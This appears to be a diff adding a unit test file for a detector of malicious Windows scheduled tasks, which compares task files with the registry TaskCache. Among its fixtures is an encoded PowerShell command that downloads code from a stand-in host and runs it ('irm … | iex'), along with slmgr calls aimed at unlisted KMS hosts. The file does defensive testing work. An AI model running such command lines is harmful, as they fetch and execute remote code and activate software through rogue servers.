@@ -1,0 +1,145 @@
+// Scheduled tasks: what they run in either store, what only one store says, and the tasks of an honest Windows.
+import { test } from 'uvu';
+import { scheduledTask } from '../../../rules/activation/scheduled-task.ts';
+import { actionsBlob, taskFile, taskXml, triggersBlob } from '../../../scripts/dev/fixtures/tasks.ts';
+import type { FakeKeys, FakeSpec } from '../../helpers/fake-image.ts';
+import { windowsRuleTester } from '../../helpers/on-windows.ts';
+
+const CACHE = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache';
+const SPP = '\\Microsoft\\Windows\\SoftwareProtectionPlatform';
+const policy = { kmsHosts: ['kms.corp.example'] };
+
+interface Given {
+  readonly path?: string;
+  readonly action?: string;
+  /** What the registry holds, where that is something else. */
+  readonly stored?: string;
+  readonly principal?: string;
+  readonly hidden?: boolean;
+  readonly only?: 'file' | 'registry';
+  readonly guarded?: boolean;
+  readonly named?: boolean;
+}
+
+function taskOf({ path = '\\Vendor\\Task', action = 'a.exe', stored = action, principal = 'S-1-5-18', ...more }: Given): {
+  file: object;
+  keys: FakeKeys;
+} {
+  const { hidden = false, only, guarded = true, named = true } = more;
+  const id = `{${Buffer.from(path)
+    .toString('hex')
+    .slice(-32)
+    .padStart(32, '0')
+    .replace(/(.{8})(.{4})(.{4})(.{4})(.{12})/, '$1-$2-$3-$4-$5')}}`;
+  const task = (line: string) => ({ path, trigger: 'boot', principal, action: line });
+  const xml = taskXml(task(action)).replace('<Settings>', `<Settings><Hidden>${hidden}</Hidden>`);
+  const content = hidden ? Buffer.from(`\ufeff${xml}`, 'utf16le') : taskFile(task(action));
+  const file = only === 'registry' ? {} : { [`/Windows/System32/Tasks${path.replaceAll('\\', '/')}`]: content };
+  const tree: FakeKeys = named ? { [`${CACHE}\\Tree${path}`]: { Id: id, ...(guarded ? { SD: new Uint8Array(20) } : {}) } } : {};
+  const data: FakeKeys = {
+    [`${CACHE}\\Tasks\\${id}`]: {
+      Path: path,
+      Actions: actionsBlob(task(stored)),
+      ...(principal === 'S-1-5-18' ? { Triggers: triggersBlob(task(stored)) } : {}),
+    },
+  };
+  return { file, keys: only === 'file' ? {} : { ...tree, ...data } };
+}
+
+/** Two honest tasks beside the given ones, so that an oddity is one. */
+function image(...given: readonly Given[]): FakeSpec {
+  const made = [{ path: '\\Honest\\One' }, { path: '\\Honest\\Two' }, ...given].map(taskOf);
+  return {
+    files: Object.assign({}, ...made.map(({ file }) => file)),
+    SOFTWARE: Object.assign({}, ...made.map(({ keys }) => keys)),
+  };
+}
+const file = (path = '/Vendor/Task') => ({ file: `/Windows/System32/Tasks${path}` });
+const tree = (path = '\\Vendor\\Task') => ({ hive: 'SOFTWARE', key: `${CACHE}\\Tree${path}` });
+
+windowsRuleTester(scheduledTask, {
+  good: [
+    { name: 'a program of a vendor', image: image({ action: '"C:\\Program Files\\Vendor\\updater.exe" /silent' }) },
+    {
+      name: "Microsoft's own tasks of the protection service, of Windows 7 and later",
+      image: image(
+        { path: `${SPP}\\SvcRestartTask`, action: '%systemroot%\\system32\\sc.exe start sppsvc' },
+        { path: `${SPP}\\SvcRestartTaskNetwork`, action: '{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}' },
+        { path: `${SPP}\\SvcRestartTaskLogon`, action: '{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}' },
+      ),
+    },
+    { name: 'activation at a listed host', image: image({ action: 'cscript slmgr.vbs /skms kms.corp.example' }), policy },
+    {
+      name: 'a hidden task of a user in ProgramData',
+      image: image({ action: 'C:\\ProgramData\\V\\a.cmd', principal: 'S-1-5-32-545', hidden: true }),
+    },
+    { name: 'names without descriptors before Windows 10', image: { ...image({ guarded: false }), info: { build: 9600 } } },
+    { name: 'a hive alone, without any file', image: { SOFTWARE: image().SOFTWARE! } },
+    {
+      name: 'a name that leads nowhere',
+      image: { ...image(), SOFTWARE: { ...image().SOFTWARE, [`${CACHE}\\Tree\\Gone`]: { Id: '{0}' } } },
+    },
+    { name: 'the same action in other case and with quotes', image: image({ action: '"A.exe" -x', stored: 'a.exe -x' }) },
+  ],
+  bad: [
+    {
+      name: 'activation at another host',
+      image: image({ action: 'cmd.exe /c slm^gr.vbs /skms 203.0.113.5' }),
+      policy,
+      findings: [{ messageId: 'activates', at: file(), level: 'strong' }],
+    },
+    {
+      name: 'activation in the registry, where the file shows something else',
+      image: image({ action: 'good.exe', stored: 'cscript.exe slmgr.vbs /skms 127.0.0.2' }),
+      findings: [
+        { messageId: 'activates', at: file(), level: 'certain' },
+        { messageId: 'disagree', at: file(), evidence: /slmgr/ },
+      ],
+    },
+    {
+      name: 'a fetched text, in coded form',
+      image: image({ action: `powershell.exe -enc ${Buffer.from('irm https://x.example | iex', 'utf16le').toString('base64')}` }),
+      findings: [{ messageId: 'fetches', at: file() }],
+    },
+    {
+      name: 'one more task beside those of the protection service, and one of them that runs something else',
+      image: image({ path: `${SPP}\\SvcTrigger`, action: 'a.exe' }, { path: `${SPP}\\SvcRestartTask`, action: 'C:\\Windows\\b.exe' }),
+      findings: [
+        { messageId: 'foreign', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcTrigger') },
+        { messageId: 'changed', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcRestartTask') },
+      ],
+    },
+    {
+      name: 'a hidden script from ProgramData, and a program from the temporary folder',
+      image: image({ action: 'C:\\ProgramData\\U\\u.cmd', hidden: true }, { path: '\\Other', action: 'C:\\Windows\\Temp\\a.exe' }),
+      findings: [
+        { messageId: 'hiddenScript', at: file() },
+        { messageId: 'fromData', at: file('/Other') },
+      ],
+    },
+    {
+      name: 'one store alone',
+      image: image({ path: '\\F', only: 'file' }, { path: '\\R', only: 'registry' }),
+      findings: [
+        { messageId: 'oneStore', at: file('/F'), says: /its file/ },
+        { messageId: 'oneStore', at: tree('\\R'), says: /the registry/ },
+      ],
+    },
+    {
+      name: 'a task without a name, and a name without a descriptor',
+      image: image({ path: '\\U', named: false }, { path: '\\G', guarded: false }),
+      findings: [
+        { messageId: 'unnamed', at: file('/U') },
+        { messageId: 'unguarded', at: file('/G') },
+      ],
+    },
+    {
+      name: 'actions that cannot be read',
+      image: { SOFTWARE: { [`${CACHE}\\Tree\\T`]: { Id: '{1}' }, [`${CACHE}\\Tasks\\{1}`]: { Actions: Uint8Array.of(9, 9) } } },
+      findings: [],
+      unable: /version 2313 is not known/,
+    },
+  ],
+});
+
+test.run();
